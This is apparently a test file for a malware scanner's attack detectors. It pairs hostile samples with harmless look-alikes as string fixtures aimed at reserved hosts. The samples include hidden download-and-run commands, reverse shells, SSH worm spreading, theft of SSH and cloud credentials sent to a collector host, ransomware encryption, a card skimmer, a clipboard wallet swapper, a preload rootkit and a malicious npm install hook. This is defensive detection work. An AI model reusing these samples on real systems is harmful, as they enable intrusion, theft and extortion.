// Named hits and at least as many named misses for every detector of the family. Texts are read as the engine reads them;
// hosts and addresses are reserved ones, nothing is fetched.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fileFacts } from '../../../../test/file/empty-facts.ts'
import type { FileFacts } from '../../facts.ts'
import type { ScriptLanguage } from '../../formats/script/facts.ts'
import { readScript } from '../../formats/script/read.ts'
import { attackDetectors } from './registry.ts'

type Texts = Readonly<Record<string, readonly [ScriptLanguage, string]>>

const scripted = (language: ScriptLanguage, text: string): Partial<FileFacts> => ({
  script: readScript(text, language).facts,
})

const ENCRYPT =
  'import os\nfrom cryptography.fernet import Fernet\nclass T:\n  def one(self, p):\n    d = self.f.encrypt(open(p, "rb").read())\n    open(p, "wb").write(d)\n    os.rename(p, p + ".x")\n  def all(self):\n    for r, _, fs in os.walk(self.root):\n      for f in fs: self.one(os.path.join(r, f))\n'
const KEYS = 'for f in ~/.npmrc ~/.ssh/id_rsa ~/.aws/credentials; do cat $f; done > /tmp/o\n'
const C_SHELL =
  '#include <unistd.h>\nint main(void){ int s = socket(2, 1, 0); connect(s, (struct sockaddr*)&a, sizeof a); dup2(s,0); dup2(s,1); execve("/bin/sh", v, 0); }'
const LOADER =
  'static unsigned char c[] = {0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0xc3};\n'

const CASES: Readonly<Record<string, { readonly hits: Texts; readonly misses: Texts }>> = {
  script_starts_hidden_cradle: {
    hits: {
      'a task of a batch file': ['batch', 'powershell -w hidden -c "iex (irm https://files.example/a)"'],
      'a macro': [
        'vba',
        'Sub AutoOpen()\nShell "powershell -windowstyle hidden IEX(New-Object Net.WebClient).DownloadString(\'http://files.example/a\')"\nEnd Sub',
      ],
    },
    misses: {
      'the installer of a package manager': ['batch', 'powershell -c "irm https://get.scoop.sh | iex"'],
      'a script of the own disk behind a hidden window': ['batch', 'powershell -w hidden -File C:\\it\\report.ps1'],
      'a visible one': ['batch', 'powershell -c "iex (irm https://files.example/a)"'],
    },
  },
  script_drops_fetched_program: {
    hits: {
      'fetched and decoded by a tool of certificates': [
        'batch',
        'certutil -urlcache -split -f http://files.example/e.txt %PUBLIC%\\e.exe\nstart %PUBLIC%\\e.exe',
      ],
      'fetched, hidden, started': [
        'batch',
        'curl -s -o %TEMP%\\a.exe http://203.0.113.9/a.exe\nattrib +h %TEMP%\\a.exe\n%TEMP%\\a.exe',
      ],
    },
    misses: {
      'an installer of a known project': [
        'batch',
        'bitsadmin /transfer p https://www.python.org/p.exe %TEMP%\\p.exe\n%TEMP%\\p.exe /quiet',
      ],
      'one that compares its digest': [
        'powershell',
        'iwr http://files.example/a.exe -OutFile a.exe\nif ((Get-FileHash a.exe).Hash -ne $h) { throw 1 }\nStart-Process a.exe',
      ],
      'fetched, and something else started': [
        'batch',
        'curl -o data.zip https://files.example/data.zip\nstart app.exe',
      ],
    },
  },
  script_takes_code_out_of_picture: {
    hits: {
      'lowest bits run': [
        'powershell',
        '$o += $g.GetPixel($x,$y).B -band 15\nIEX([Text.Encoding]::ASCII.GetString($o))',
      ],
    },
    misses: {
      'a picture measured': ['powershell', '$sum += $g.GetPixel($x,$y).B\nWrite-Output $sum'],
      'code run, no picture': ['powershell', 'iex (Get-Content a.ps1 -Raw)'],
    },
  },
  script_loads_bot: {
    hits: {
      'one for each processor': [
        'shell',
        'cd /tmp || cd /var/run || cd /mnt\nwget http://203.0.113.9/b.mips; chmod +x b.mips; ./b.mips\nwget http://203.0.113.9/b.arm7; chmod +x b.arm7; ./b.arm7',
      ],
    },
    misses: {
      'a release script': [
        'shell',
        'for a in mips arm7 x86; do curl -O https://github.com/o/p/releases/p-$a; chmod +x p-$a; done',
      ],
      'an installer of one program': [
        'shell',
        'curl -fsSL https://files.example/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool install',
      ],
    },
  },
  script_spreads_itself: {
    hits: {
      'over SSH': [
        'shell',
        'H=$(cat ~/.ssh/known_hosts | cut -d" " -f1 | sort -u)\nfor h in $H; do ssh -oStrictHostKeyChecking=no -oBatchMode=yes $h "curl http://203.0.113.9/i | bash" & done',
      ],
      'to removable drives': [
        'vbscript',
        'for each d in fso.drives\nif d.drivetype = 1 then\nfso.copyfile wscript.scriptfullname, d.path & "\\a.vbs"\nend if\nnext',
      ],
    },
    misses: {
      'updates on named hosts': [
        'shell',
        'for h in web1 web2; do ssh -oStrictHostKeyChecking=no $h "apt-get -y upgrade"; done',
      ],
      'a backup to a stick': ['vbscript', 'if d.drivetype = 1 then fso.copyfolder "C:\\data", d.path & "\\backup"'],
    },
  },
  script_mails_typed_secrets: {
    hits: {
      'mailed with the address of the visitor': [
        'php',
        '<?php $m = "Password: ".$_POST["pw"]."\\n"; $m .= $_SERVER["REMOTE_ADDR"]; mail($to, "log", $m);',
      ],
    },
    misses: {
      'a contact form': [
        'php',
        '<?php $m = "Name: ".$_POST["name"]."\\nIP: ".$_SERVER["REMOTE_ADDR"]; mail($to, "contact", $m);',
      ],
      'a sign-in that logs the address': [
        'php',
        '<?php if (!password_verify($_POST["password"], $row["hash"])) file_put_contents("l", $_SERVER["REMOTE_ADDR"], FILE_APPEND);',
      ],
    },
  },
  script_swaps_payment_addresses: {
    hits: {
      'one of its own for another': [
        'python',
        'import re, pyperclip\nwhile True:\n  t = pyperclip.paste()\n  if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t): clipboard = pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
      ],
    },
    misses: {
      'a wallet checks what is pasted': [
        'javascript',
        'const t = await navigator.clipboard.readText(); if (!/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) warn(t)',
      ],
      'a donation address with a copy button': [
        'javascript',
        'button.onclick = () => navigator.clipboard.writeText("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
      ],
    },
  },
  script_installs_rootkit: {
    hits: {
      'a reader of folders, preloaded everywhere': [
        'shell',
        'cat > h.c <<X\nstruct dirent *readdir(DIR *d) { o = dlsym(RTLD_NEXT, "readdir"); }\nX\necho /lib/h.so >> /etc/ld.so.preload',
      ],
    },
    misses: {
      'an allocator for all programs': ['shell', 'echo /usr/lib/libjemalloc.so > /etc/ld.so.preload'],
      'a test library for one program': [
        'shell',
        'cat > h.c <<X\nstruct dirent *readdir(DIR *d) { o = dlsym(RTLD_NEXT, "readdir"); }\nX\nLD_PRELOAD=./h.so ls',
      ],
    },
  },
  script_obeys_remote_server: {
    hits: {
      'Visual Basic that executes answers': [
        'vbscript',
        'set h = createobject("msxml2.xmlhttp")\nwhile true\nh.open "post", "http://panel.example/ready", false\nh.send ""\nc = split(h.responsetext, "|")\np = c(1)\nexecute p\nwend',
      ],
      'Python over a socket': [
        'python',
        'while True:\n  cmd = s.recv(1024).decode()\n  out = os.popen(cmd).read()\n  s.send(out.encode())',
      ],
    },
    misses: {
      'a monitor that starts a fixed program': [
        'python',
        'while True:\n  out = subprocess.run(["df", "-h"], capture_output=True).stdout\n  requests.post("https://monitor.example/in", data=out)\n  time.sleep(60)',
      ],
      'a page that polls': ['javascript', 'setInterval(() => fetch("/state").then(r => r.json()).then(show), 5000)'],
      'a macro that asks a rate': [
        'vba',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/eur", False\nh.send\nRange("A1").Value = h.responseText',
      ],
    },
  },
  script_demands_ransom: {
    hits: {
      'steps far apart, and a note': [
        'python',
        `${ENCRYPT}    note = "Your hard drive was encrypted. Send 500 USD in bitcoin to get the decryption key"`,
      ],
    },
    misses: {
      'a vault for its owner': ['python', `${ENCRYPT}    print("keep your key safe, without it the files are lost")`],
      'an article': [
        'python',
        'TEXT = "All your files are encrypted! Pay 2 BTC"\ndef scan(path):\n  return TEXT in open(path).read()',
      ],
    },
  },
  script_robs_developers: {
    hits: {
      'three kinds of keys posted': ['shell', `${KEYS}curl -s -F f=@/tmp/o https://collect.example/u`],
    },
    misses: {
      'kept on the machine': ['shell', KEYS],
      'one key, for its own service': ['shell', 'cat ~/.aws/credentials | curl -F f=@- https://collect.example/u'],
    },
  },
  script_hides_its_errand: {
    hits: {
      'Python out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('import requests, os\nrequests.post("https://collect.example/u", files={"f": open(os.path.expanduser("~/a"), "rb")})\n').toString('base64')}"))`,
      ],
    },
    misses: {
      'a table out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('TABLE = [1, 2, 3, 4, 5, 6, 7, 8]\nNAMES = ["alpha", "beta", "gamma", "delta"]\nprint(TABLE, NAMES)\n').toString('base64')}"))`,
      ],
      'the same in the open': [
        'python',
        'import requests\nrequests.post("https://collect.example/u", files={"f": open("a", "rb")})',
      ],
    },
  },
  script_mines_in_secret: {
    hits: {
      'under the name of a kernel thread': [
        'shell',
        'mv xmrig /usr/bin/kworkerds\n/usr/bin/kworkerds -o stratum+tcp://pool.example:3333 -u w',
      ],
    },
    misses: {
      'a miner of its owner': ['shell', './xmrig -o stratum+tcp://pool.example:3333 -u wallet --cpu-priority 1'],
      'a backup with a hidden file': ['shell', 'tar cz /home > /tmp/.backup.tgz'],
    },
  },
  script_disguises_its_download: {
    hits: {
      'words from variables': [
        'batch',
        'set a=power\nset b=shell\n%a%%b% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
      ],
    },
    misses: {
      'an interpreter in a variable': [
        'batch',
        'set PS=powershell.exe\n%PS% -c "iwr https://files.example/a.exe -OutFile a.exe; saps a.exe"',
      ],
      'words in pieces that fetch nothing': ['batch', 'set a=power\nset b=shell\n%a%%b% -c "Get-Date"'],
    },
  },
  script_loads_fetched_assembly: {
    hits: {
      'text turned into an assembly': [
        'powershell',
        '$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString("https://files.example/a"))\n[Reflection.Assembly]::Load($b)',
      ],
    },
    misses: {
      'a library of the own module': [
        'powershell',
        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("$PSScriptRoot\\a.dll"))',
      ],
      'base64 and a download, no assembly': [
        'powershell',
        '$t = [Convert]::FromBase64String($secret)\nInvoke-WebRequest https://files.example/a -OutFile a',
      ],
    },
  },
  script_unpacks_itself_into_memory: {
    hits: {
      'a comment that is a program': [
        'batch',
        "powershell -c \"$a=[System.IO.File]::ReadAllText('%~f0').Split('::')[1];$d=$e.CreateDecryptor();$b=$d.TransformFinalBlock($a,0,9);[Reflection.Assembly]::Load($b)\"",
      ],
    },
    misses: {
      'an archive behind a batch file': ['batch', 'more +12 "%~f0" > a.cab\nexpand a.cab -F:* out'],
      'a module that loads its library': [
        'powershell',
        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("a.dll"))',
      ],
    },
  },
  source_opens_reverse_shell: {
    hits: {
      'in C': ['source', C_SHELL],
      'in Go': [
        'source',
        'c, _ := net.Dial("tcp", "203.0.113.9:443")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()',
      ],
    },
    misses: {
      'a service that waits': ['source', C_SHELL.replace('connect(s', 'listen(s, 8); accept(s').replace('connect', '')],
      'a client that starts no shell': ['source', 'c, _ := net.Dial("tcp", "203.0.113.9:443")\nio.Copy(os.Stdout, c)'],
      'a program that starts a shell': ['source', 'cmd := exec.Command("/bin/sh", "-c", "make")\ncmd.Stdin = os.Stdin'],
    },
  },
  source_runs_carried_code: {
    hits: {
      'bytes, memory, a thread': [
        'source',
        `${LOADER}int main(){ void *p = VirtualAlloc(0, sizeof c, 0x3000, 0x40); memcpy(p, c, sizeof c); CreateThread(0, 0, p, 0, 0, 0); }`,
      ],
    },
    misses: {
      'a table of a cipher': ['source', `${LOADER}int f(int i) { return c[i]; }`],
      'a compiler just in time': ['source', 'void *p = VirtualAlloc(0, n, 0x3000, PAGE_EXECUTE_READWRITE); emit(p);'],
    },
  },
  source_runs_fetched_code: {
    hits: {
      'a build script in Rust': [
        'source',
        'fn main() { let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/a.sh | sh &").spawn(); }',
      ],
    },
    misses: {
      'the installer of a known project': [
        'source',
        'exec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh")',
      ],
      'a message that says how': ['source', 'println!("install it: curl -s https://tool.example/a.sh | sh");'],
    },
  },
  script_skims_cards: {
    hits: {
      'a checkout page': [
        'javascript',
        'if (/checkout|payment/.test(location.href)) { const d = {}; document.querySelectorAll("input,select").forEach(i => d[i.name] = i.value); if (d.cc_number) new Image().src = "https://stat.example/g?d=" + btoa(JSON.stringify(d)) }',
      ],
    },
    misses: {
      'statistics of a shop': [
        'javascript',
        'if (/checkout/.test(location.href)) new Image().src = "https://stat.example/g?u=" + encodeURIComponent(location.href)',
      ],
      'a form that checks a card': [
        'javascript',
        'document.querySelectorAll("input").forEach(i => { if (i.name === "cc_number" && !luhn(i.value)) i.classList.add("bad") })',
      ],
    },
  },
  script_runs_disguised_code: {
    hits: {
      'the decoder in pieces': [
        'php',
        '<?php $d = "base64_"."decode"; $t = $d("aGVsbG8gd29ybGQgaGVsbG8="); @eval($t); ?>',
      ],
    },
    misses: {
      'the decoder by its name': ['php', '<?php $t = base64_decode("aGVsbG8gd29ybGQgaGVsbG8="); echo $t; ?>'],
      'a name in pieces that runs nothing': ['php', '<?php $d = "base64_"."decode"; echo $d("aGVsbG8="); ?>'],
    },
  },
}

const PAGE: NonNullable<FileFacts['html']> = {
  kind: 'html',
  title: '',
  forms: [],
  passwordFields: 1,
  refreshes: [],
  frames: [],
  handlers: [],
  scriptCount: 1,
  remoteScripts: [],
  script: null,
  dataUrls: [],
  objects: [],
  helpCommands: [],
  ownAddress: '',
  linkHosts: [],
  linkCount: 0,
  textChars: 0,
  text: '',
  images: 0,
}
const page = (script: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
  html: { ...PAGE, script: readScript(script, 'javascript').facts, ...given },
})
type Form = NonNullable<FileFacts['html']>['forms'][number]
const form = (action: string): Form => ({ action, method: 'post', passwordFields: 0, fields: 1 })
const phrasePage = (action: string): Partial<FileFacts> =>
  page('', { text: 'Enter your 12-word Secret Recovery Phrase', forms: [form(action)] })
const DRAIN =
  "await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender + 'f'.repeat(64) }] })"
const BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + pw.value)'

function member(name: string, given: Partial<FileFacts>): FileFacts {
  return fileFacts({ name, path: `p.tgz/${name}`, depth: 1, relation: 'archive_member', ...given })
}
function manifest(command: string): FileFacts {
  return member('package/package.json', {
    automation: {
      kind: 'package_manifest',
      isUnasked: true,
      commands: [{ when: 'scripts.preinstall', text: command }],
      script: readScript(command, 'shell').facts,
    },
  })
}
const THEFT =
  'const o = { h: os.hostname(), e: process.env }; https.request({ hostname: "collect.example", method: "POST" }).end(JSON.stringify(o))'
const theft = (name: string): FileFacts => member(name, scripted('javascript', THEFT))

const FACTS: Readonly<
  Record<
    string,
    { readonly hits: Record<string, Partial<FileFacts>>; readonly misses: Record<string, Partial<FileFacts>> }
  >
> = {
  page_hands_password_to_bot: {
    hits: { 'a form and a bot': page(BOT) },
    misses: {
      'a bot without a password': page(BOT, { passwordFields: 0 }),
      'a password for its own server': page('fetch("/login", { method: "POST", body: data })'),
    },
  },
  page_asks_for_recovery_phrase: {
    hits: { 'posted elsewhere': phrasePage('https://restore.example/save.php') },
    misses: {
      'a wallet, within itself': phrasePage('/restore'),
      'a sign-in elsewhere': page('', { text: 'Sign in', forms: [form('https://sso.example/login')] }),
    },
  },
  page_drains_wallet: {
    hits: { 'a right for a gift': page(DRAIN, { title: 'Claim your airdrop' }) },
    misses: {
      'an exchange': page(DRAIN, { title: 'Swap tokens' }),
      'a gift for nothing': page('connect()', { title: 'Claim your airdrop' }),
    },
  },
  package_hook_runs_attack: {
    hits: {
      'a file beside the manifest': { children: [manifest('node setup.js'), theft('package/setup.js')] },
      'in a folder': { children: [manifest('node ./scripts/post.js'), theft('package/scripts/post.js')] },
    },
    misses: {
      'a file that no hook names': { children: [manifest('node build.js'), theft('package/setup.js')] },
      'a hook that builds': {
        children: [
          manifest('node build.js'),
          member('package/build.js', scripted('javascript', 'require("esbuild").buildSync({})')),
        ],
      },
      'a file of another package': { children: [manifest('node setup.js'), theft('other/setup.js')] },
    },
  },
}

for (const detector of attackDetectors) {
  const texts = CASES[detector.id]
  const facts = FACTS[detector.id]
  const read = (table: Texts): Record<string, Partial<FileFacts>> =>
    Object.fromEntries(Object.entries(table).map(([name, [language, text]]) => [name, scripted(language, text)]))
  const hits = { ...read(texts?.hits ?? {}), ...facts?.hits }
  const misses = { ...read(texts?.misses ?? {}), ...facts?.misses }

  for (const [name, given] of Object.entries(hits))
    test(`${detector.id} hits: ${name}`, () => {
      const hit = detector.detect(fileFacts(given))
      assert.ok(hit !== null)
      assert.equal(hit.strength ?? 1, 1)
      assert.ok(hit.evidence.length > 0)
    })
  for (const [name, given] of Object.entries(misses))
    test(`${detector.id} misses: ${name}`, () => assert.equal(detector.detect(fileFacts(given)), null))
  test(`${detector.id} has a table`, () => {
    assert.ok(Object.keys(hits).length > 0)
    assert.ok(Object.keys(misses).length >= Object.keys(hits).length)
  })
}
